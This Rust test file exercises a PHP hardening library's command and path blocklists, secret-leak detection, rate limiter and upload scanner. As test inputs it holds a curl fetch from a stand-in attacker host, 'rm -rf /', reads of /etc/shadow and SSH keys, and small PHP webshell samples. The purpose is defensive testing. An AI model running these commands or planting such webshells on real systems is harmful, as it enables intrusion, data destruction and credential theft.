use php_safe_core::cmd_guard;
use php_safe_core::file_guard;
use php_safe_core::rate_limiter;
use php_safe_core::security;
use php_safe_core::sensitive_guard;
use php_safe_core::stats;
use php_safe_core::upload_guard;
use php_safe_core::upload_guard::ThreatKind;

#[test]
fn command_blocklist_hits_and_whitelist_wins() {
    assert!(cmd_guard::is_blocked("curl http://evil.example/x.sh"));
    assert!(cmd_guard::is_blocked("CURL http://evil.example"));
    assert!(cmd_guard::is_blocked("/bin/bash -c id"));
    assert!(cmd_guard::is_blocked("rm -rf /"));
    assert!(!cmd_guard::is_blocked("/usr/bin/sendmail -t"));
    assert!(!cmd_guard::is_blocked("/usr/bin/convert in.png out.jpg"));
    assert!(!cmd_guard::is_blocked("ls -l"));
}

#[test]
fn path_blocklist_hits_and_allowed_prefixes_win() {
    assert!(file_guard::is_blocked("/etc/passwd"));
    assert!(file_guard::is_blocked("/srv/app/.git/config"));
    assert!(file_guard::is_blocked("/home/user/server.pem"));
    assert!(file_guard::is_blocked("/opt/keys/backup.id_rsa"));
    assert!(!file_guard::is_blocked("/var/www/html/index.php"));
    assert!(!file_guard::is_blocked("/tmp/upload.tmp"));
    assert!(!file_guard::is_blocked("/opt/data/report.txt"));
}

#[test]
fn sensitive_output_is_spotted() {
    assert!(sensitive_guard::is_sensitive("PHP Fatal error ... Stack trace: #0 /var/www"));
    assert!(sensitive_guard::is_sensitive("SQLSTATE[HY000] [1045] Access denied"));
    assert!(sensitive_guard::is_sensitive("DB_PASSWORD=SECRET-REDACTED"));
    assert!(!sensitive_guard::is_sensitive("hello world"));
}

#[test]
fn security_checks_count_their_refusals() {
    let mut st = stats::init();
    assert!(security::check_cmd(&mut st, "wget http://x"));
    assert!(!security::check_cmd(&mut st, "/usr/local/bin/app"));
    assert_eq!(st.cmd_blocks, 1);
    assert!(security::check_path(&mut st, "/etc/shadow"));
    assert!(!security::check_path(&mut st, "/srv/site/page.html"));
    assert_eq!(st.file_blocks, 1);
    assert!(security::filter_output(&mut st, "warning: password leaked"));
    assert!(!security::filter_output(&mut st, "all fine"));
    assert_eq!(st.sensitive_blocks, 1);
}

#[test]
fn rate_limit_blocks_after_the_cap_and_resets() {
    let mut rl = rate_limiter::init();
    let mut st = stats::init();
    let now = 1000;
    for _ in 0..300 {
        assert!(!rl.check(&mut st, 42, now));
    }
    assert!(rl.check(&mut st, 42, now));
    assert_eq!(st.rate_blocks, 1);
    // Another client is unaffected.
    assert!(!rl.check(&mut st, 7, now));
    // After the window, the same client starts fresh.
    assert!(!rl.check(&mut st, 42, now + 60));
    assert_eq!(st.rate_blocks, 1);
}

#[test]
fn security_rate_check_delegates() {
    let mut sec = security::init();
    let mut st = stats::init();
    for _ in 0..300 {
        assert!(!sec.rate_check(&mut st, 9, 5));
    }
    assert!(sec.rate_check(&mut st, 9, 5));
    assert_eq!(st.rate_blocks, 1);
}

#[test]
fn dangerous_extensions_are_refused_case_insensitively() {
    assert!(upload_guard::is_dangerous_ext("shell.php"));
    assert!(upload_guard::is_dangerous_ext("shell.PHP"));
    assert!(upload_guard::is_dangerous_ext("x.phtml"));
    assert!(upload_guard::is_dangerous_ext("a.jspx"));
    assert!(!upload_guard::is_dangerous_ext("photo.jpg"));
    assert!(!upload_guard::is_dangerous_ext("notes.txt"));
}

#[test]
fn content_scan_spots_executables_and_webshells() {
    let elf: Vec<u8> = vec![0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01];
    assert_eq!(upload_guard::scan_content(&elf), Some(ThreatKind::ElfBinary));
    let shell: Vec<u8> = b"<?PHP EVAL($_POST[1]); ?>".to_vec();
    assert_eq!(upload_guard::scan_content(&shell), Some(ThreatKind::WebshellPattern));
    let clean: Vec<u8> = b"just a text file".to_vec();
    assert_eq!(upload_guard::scan_content(&clean), None);
    // Content above the scan cap is skipped.
    let huge: Vec<u8> = vec![0u8; 10 * 1024 * 1024 + 1];
    assert_eq!(upload_guard::scan_content(&huge), None);
}

#[test]
fn threat_kind_prefers_the_extension() {
    let clean: Vec<u8> = b"hello".to_vec();
    assert_eq!(upload_guard::is_threat("a.php", &clean), Some(ThreatKind::DangerousExt));
    let shell: Vec<u8> = b"<?php system('id');".to_vec();
    assert_eq!(upload_guard::is_threat("a.jpg", &shell), Some(ThreatKind::WebshellPattern));
    assert_eq!(upload_guard::is_threat("a.jpg", &clean), None);
}

#[test]
fn upload_guard_counts_and_stops() {
    let mut g = upload_guard::init();
    assert!(g.running);
    assert_eq!(g.blocked_count(), 0);
    g.record_blocked();
    g.record_blocked();
    assert_eq!(g.blocked_count(), 2);
    g.shutdown();
    assert!(!g.running);
    assert_eq!(g.blocked_count(), 2);
}
